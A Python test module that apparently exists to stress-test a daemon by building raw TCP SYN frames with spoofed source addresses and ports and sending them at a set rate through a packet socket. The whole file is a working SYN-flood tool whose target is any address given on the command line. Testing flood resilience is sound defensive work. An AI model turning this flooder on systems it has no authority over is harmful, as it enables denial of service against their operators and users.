# SPDX-License-Identifier: GPL-2.0-or-later
"""A SYN flood, for tests: connections attempted to a port from ever other addresses and ports.

    python -m tests.daemon.flood LINK MAC ADDRESS PORT PER_S

Frames leave by a packet socket (packet(7)), so no socket, conntrack or port of this end is used up.
Nobody answers for the addresses they come from: what is answered is lost. Ends with stdin, and says
then how many were sent and in how many seconds.
"""

from __future__ import annotations

import errno
import select
import socket
import struct
import sys
import time

__all__ = ["attempts", "summed"]

SYN = 0x02
BURST = 250
PAUSE_S = 0.001


def summed(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _frame(mac: bytes, source: bytes, source_port: int, address: bytes, port: int) -> bytes:
    """Ethernet, IPv4 and TCP without options (RFC 9293)."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, address)
    ip = ip[:10] + summed(ip).to_bytes(2, "big") + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", source_port, port, 1, 0, 0x50, SYN, 65535, 0, 0)
    pseudo = source + address + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + summed(pseudo + tcp).to_bytes(2, "big") + tcp[18:]
    return mac + mac + b"\x08\x00" + ip + tcp


def attempts(mac: bytes, address: str, port: int) -> list[bytes]:
    """50,000 SYNs to `port`, each from another address and port of 10.8.0.0/16."""
    to = socket.inet_aton(address)
    return [
        _frame(mac, bytes((10, 8, 1 + n // 250, 1 + n % 250)), 1024 + n, to, port)
        for n in range(50_000)
    ]


def main(link: str, mac: str, address: str, port: str, per_s: str) -> None:
    frames = attempts(bytes.fromhex(mac.replace(":", "")), address, int(port))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.bind((link, 0))
        print("ok", flush=True)
        began, sent, due = time.monotonic(), 0, 0
        while not select.select([sys.stdin], [], [], 0 if due > 0 else PAUSE_S)[0]:
            due = int((time.monotonic() - began) * int(per_s)) - sent
            at = sent % len(frames)
            for frame in frames[at : at + max(0, min(due, BURST))]:
                try:
                    out.send(frame)
                except OSError as refusal:
                    if refusal.errno != errno.ENOBUFS:
                        raise
                    break  # who floods goes on when there is room again
                sent += 1
        print(sent, time.monotonic() - began, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
